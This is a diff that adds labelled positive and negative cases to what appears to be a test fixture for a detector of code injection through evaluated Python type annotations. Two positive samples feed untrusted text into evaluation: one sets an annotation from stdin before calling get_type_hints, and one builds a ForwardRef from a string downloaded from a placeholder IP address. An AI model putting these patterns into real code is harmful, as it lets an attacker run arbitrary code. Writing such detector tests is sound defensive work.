@@ -339,3 +339,18 @@ logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "logging.ini")
 #@ neg a text with args lines in a program that never calls fileConfig
 HELP = "usage: args=(run(x))"
 print(HELP)
+#@ pos an annotation set from the input, then evaluated
+import sys, typing
+def f(x):
+    pass
+f.__annotations__["x"] = sys.stdin.read()
+typing.get_type_hints(f)
+#@ pos a forward reference of a download
+import typing, urllib.request
+ref = typing.ForwardRef(urllib.request.urlopen("http://198.51.100.3/t").read().decode())
+#@ neg annotations set to types
+import typing
+def f(x):
+    pass
+f.__annotations__["x"] = int
+print(typing.get_type_hints(f))
